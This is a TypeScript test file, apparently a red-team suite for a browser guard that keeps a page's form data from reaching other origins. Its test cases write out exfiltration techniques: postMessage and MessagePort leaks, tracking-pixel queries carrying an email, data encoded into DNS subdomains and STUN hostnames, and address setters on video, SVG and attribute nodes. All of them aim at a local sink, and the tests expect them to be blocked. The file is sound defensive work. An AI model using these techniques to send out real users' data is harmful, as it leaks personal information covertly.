// Round 4 of the site boundary: page data handed to another origin by message, and what the
// boundary refused that a page needs.
// - postMessage during an action to a frame of another origin (here an opaque, sandboxed one that
//   echoes what it gets back), with `*` or through a MessagePort handed to it before the action:
//   a message carrying a field's value never arrives, the host hears of it; one carrying nothing of
//   the page's (a widget's resize) still does, and a same-origin frame still gets the page's data.
// - False refusals: a CDN picture whose file name is a slug of the page's title loads (a run of the
//   page's text in a query is still refused), and markup with one off-site picture carrying the
//   data goes in without that picture's address, the rest of it whole.
// - Addresses set on elements already in the page by a way the guard did not watch: a video's
//   poster, an image input's src, an SVG image's href (setAttribute and setAttributeNS), an
//   attribute node's value.
import { expect } from '@open-wc/testing';
import { attack, createSink, says, type Sink } from './support/red-team.js';

let sink: Sink;
beforeEach(() => {
  sink = createSink();
});

const page = `${says('Click "Save".')}<label>Email <input id="email" value="ada@example.com"></label><button type="button" id="save">Save</button>`;
const onSave = (send: () => void) => (root: HTMLElement) => root.querySelector('#save')!.addEventListener('click', () => {
  try {
    send();
  } catch {
    // refused
  }
});

/** A frame of another (opaque) origin that posts back `got:` and whatever reaches it, by window or by port. */
async function echoFrame(root: HTMLElement, id = 'other'): Promise<{ frame: HTMLIFrameElement; got: string[] }> {
  const frame = document.createElement('iframe');
  frame.id = id;
  frame.setAttribute('sandbox', 'allow-scripts');
  frame.srcdoc = `<script>
    const echo = (data) => parent.postMessage({ echo: '${id}', data: JSON.stringify(data) }, '*');
    addEventListener('message', (event) => { echo(event.data); for (const port of event.ports) port.onmessage = (e) => echo(e.data); });
  <\/script>`;
  const got: string[] = [];
  addEventListener('message', (event) => event.data?.echo === id && got.push(event.data.data));
  root.append(frame);
  await new Promise((resolve) => frame.addEventListener('load', resolve, { once: true }));
  return { frame, got };
}

const settle = () => new Promise((resolve) => setTimeout(resolve, 300));

describe('postMessage to another origin', function () {
  this.timeout(20_000);

  it("to a cross-origin frame with '*', carrying a field's value", async () => {
    let echo!: Awaited<ReturnType<typeof echoFrame>>;
    const run = await attack({ page, async setup(root) {
      echo = await echoFrame(root);
      onSave(() => echo.frame.contentWindow!.postMessage({ email: (document.querySelector('#email') as HTMLInputElement).value }, '*'))(root);
    } });
    await settle();
    expect(echo.got, 'what the other origin received').to.deep.equal([]);
    expect(run.blocked.map((detail) => detail.effect?.method)).to.deep.equal(['POSTMESSAGE']);
  });

  it('through a MessagePort handed to a cross-origin frame before the action', async () => {
    let echo!: Awaited<ReturnType<typeof echoFrame>>;
    const run = await attack({ page, async setup(root) {
      echo = await echoFrame(root);
      const channel = new MessageChannel();
      echo.frame.contentWindow!.postMessage('hello', '*', [channel.port2]);
      await new Promise((resolve) => setTimeout(resolve, 100));
      onSave(() => channel.port1.postMessage(`e=${btoa('ada@example.com')}`))(root);
    } });
    await settle();
    expect(echo.got, 'what the other origin received').to.deep.equal(['"hello"']);
    expect(run.blocked.map((detail) => detail.effect?.method)).to.deep.equal(['POSTMESSAGE']);
  });

  it("a widget's message carrying nothing of the page's still reaches its cross-origin frame", async () => {
    let echo!: Awaited<ReturnType<typeof echoFrame>>;
    const run = await attack({ page, async setup(root) {
      echo = await echoFrame(root);
      onSave(() => echo.frame.contentWindow!.postMessage({ type: 'resize', height: 480 }, '*'))(root);
    } });
    await settle();
    expect(run.blocked).to.deep.equal([]);
    expect(echo.got).to.deep.equal(['{"type":"resize","height":480}']);
  });

  it("a same-origin frame still gets the page's data", async () => {
    const got: unknown[] = [];
    const run = await attack({ page, async setup(root) {
      const frame = document.createElement('iframe');
      root.append(frame);
      frame.contentWindow!.addEventListener('message', (event) => got.push(event.data));
      onSave(() => frame.contentWindow!.postMessage({ email: 'ada@example.com' }, '*'))(root);
    } });
    await settle();
    expect(run.blocked).to.deep.equal([]);
    expect(got).to.deep.equal([{ email: 'ada@example.com' }]);
  });
});

describe('what the boundary must let through', function () {
  this.timeout(20_000);
  const report = `<h1>Annual report 2025</h1>${page}`;

  it("a CDN picture named by a slug of the page's title loads", async () => {
    const run = await attack({ page: report, setup: onSave(() => (new Image().src = sink.url('/images/annual-report-2025-cover.jpg'))) });
    expect(run.blocked).to.deep.equal([]);
    expect((await sink.whenReceived(1)).map((record) => record.path)).to.deep.equal(['/images/annual-report-2025-cover.jpg']);
  });

  it("the same run of the page's words in a query is still refused", async () => {
    const run = await attack({ page: report, setup: onSave(() => (new Image().src = sink.url('/p.gif?t=annual-report-2025'))) });
    expect(await sink.received()).to.deep.equal([]);
    expect(run.blocked.map((detail) => detail.effect?.kind)).to.deep.equal(['request']);
  });

  // Short field values: a quantity of 100, a "yes" chosen from a list, are no data a request can
  // leak, and "100" inside "1000" or "ada" inside "canada" is no match; a typed short name, a
  // PIN, an email or a phone still is.
  const shortValues = `${page}<label>Quantity <input id="qty" value="100"></label><label>Newsletter <select id="news"><option>no</option><option selected>yes</option></select></label>
    <label>First name <input id="first" value="Ada"></label><label>PIN <input id="pin" type="password" value="4821"></label><label>Phone <input id="tel" value="415-555-2671"></label>`;
  it('an address holding short values the fields hold (a quantity, a choice) loads', async () => {
    const run = await attack({ page: shortValues, setup: onSave(() => (new Image().src = sink.url('/thumbs/canada.jpg?w=1000&page=100&hd=yes'))) });
    expect(run.blocked).to.deep.equal([]);
    expect((await sink.whenReceived(1)).map((record) => record.path)).to.deep.equal(['/thumbs/canada.jpg']);
  });
  for (const query of ['n=Ada', 'p=4821', 'e=ada@example.com', 't=415-555-2671']) {
    it(`a typed short name, a PIN, an email, a phone are still refused (${query})`, async () => {
      const run = await attack({ page: shortValues, setup: onSave(() => (new Image().src = sink.url(`/p.gif?${query}`))) });
      expect(await sink.received(300)).to.deep.equal([]);
      expect(run.blocked.map((detail) => detail.effect?.kind)).to.deep.equal(['request']);
    });
  }

  it('markup with one picture carrying the data goes in without that address, the rest whole', async () => {
    const run = await attack({ page, setup: (root) => onSave(() => root.insertAdjacentHTML('beforeend', `<section id="gallery"><h2>Gallery</h2>
      <img id="cdn" alt="Cover" src="${sink.url('/large/cover.jpg?w=1200')}"><img id="spy" alt="" src="${sink.url('/p.gif?e=ada@example.com')}"></section>`))(root) });
    expect((await sink.whenReceived(1)).map((record) => record.path)).to.deep.equal(['/large/cover.jpg']);
    expect(run.blocked.map((detail) => detail.effect?.kind)).to.deep.equal(['request']);
    const gallery = run.root.querySelector('#gallery');
    expect(gallery?.querySelector('h2')?.textContent).to.equal('Gallery');
    expect(gallery?.querySelector('#cdn')?.getAttribute('src')).to.include('/large/cover.jpg');
    expect(gallery?.querySelector('#spy')?.hasAttribute('src'), 'the spy picture has no address').to.equal(false);
  });
});

// Round 5: the data in the host name of the address (a DNS lookup carries it to the attacker's
// name server, whatever the path): a picture, and a dns-prefetch link inserted by markup. The
// sink answers on *.sink.localhost (loopback in the engines that resolve it).
describe('data in the host name of an address', function () {
  this.timeout(20_000);
  const hosted = (label: string, path = '/p.gif') => sink.url(path).replace('127.0.0.1', `${label}.sink.localhost`);
  const SENDS: Array<[string, () => void]> = [
    ["a field's value, its dots as dashes, in a picture's subdomain", () => (new Image().src = hosted('ada-example-com'))],
    ["a field's value, hex-encoded, in a dns-prefetch link's subdomain", () => document.body.insertAdjacentHTML('beforeend', `<link rel="dns-prefetch" href="${hosted([...'ada@example.com'].map((char) => char.charCodeAt(0).toString(16)).join(''))}">`)],
  ];
  for (const [name, send] of SENDS) {
    it(name, async () => {
      const run = await attack({ page, setup: onSave(send) });
      expect(await sink.received(300), 'what reached the other site').to.deep.equal([]);
      expect(run.blocked.map((detail) => detail.effect?.kind)).to.deep.equal(['request']);
    });
  }

  it("a peer connection whose STUN server's host name carries a field's value", async function () {
    // WebKit's test build has no WebRTC.
    if (!('RTCPeerConnection' in window)) this.skip();
    let threw = false;
    const run = await attack({ page, setup: onSave(() => {
      try {
        const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:ada-example-com.sink.localhost:${new URL(sink.origin).port}` }] });
        peer.createDataChannel('x');
        void peer.createOffer().then((offer) => peer.setLocalDescription(offer));
      } catch {
        threw = true;
      }
    }) });
    expect(threw, 'the peer connection was refused').to.equal(true);
    expect(run.blocked.map((detail) => detail.effect?.method)).to.deep.equal(['CONNECT']);
  });

  it("a picture from the site's CDN host, or a subdomain naming nothing of the page's, loads", async () => {
    const run = await attack({ page, setup: onSave(() => (new Image().src = hosted('img-cdn-2', '/cover.jpg'))) });
    expect(run.blocked).to.deep.equal([]);
  });
});

describe('load addresses set on elements already in the page', function () {
  this.timeout(20_000);
  const data = () => sink.url('/p.gif?e=ada@example.com');
  const xlink = 'http://www.w3.org/1999/xlink';
  const FORMS: Array<[string, string, () => void]> = [
    ["a video's poster property", '<video id="v" width="20" height="20"></video>', () => ((document.querySelector('#v') as HTMLVideoElement).poster = data())],
    ["a video's poster attribute", '<video id="v" width="20" height="20"></video>', () => document.querySelector('#v')!.setAttribute('poster', data())],
    ["an image input's src", '<input id="i" type="image" alt="Go">', () => ((document.querySelector('#i') as HTMLInputElement).src = data())],
    ["an SVG image's href attribute", '<svg width="20" height="20"><image id="g" width="20" height="20"></image></svg>', () => document.querySelector('#g')!.setAttribute('href', data())],
    ["an SVG image's xlink:href, set with setAttributeNS", '<svg width="20" height="20"><image id="g" width="20" height="20"></image></svg>', () => document.querySelector('#g')!.setAttributeNS(xlink, 'xlink:href', data())],
    ["an image's src attribute node, its value set", '<img id="m" alt="" src="/favicon.ico">', () => (document.querySelector('#m')!.getAttributeNode('src')!.value = data())],
  ];
  for (const [name, markup, send] of FORMS) {
    it(name, async () => {
      const run = await attack({ page: `${page}${markup}`, setup: onSave(send) });
      expect(await sink.received(500), 'what reached the other site').to.deep.equal([]);
      expect(run.blocked.map((detail) => detail.effect?.kind)).to.deep.equal(['request']);
    });
  }
});
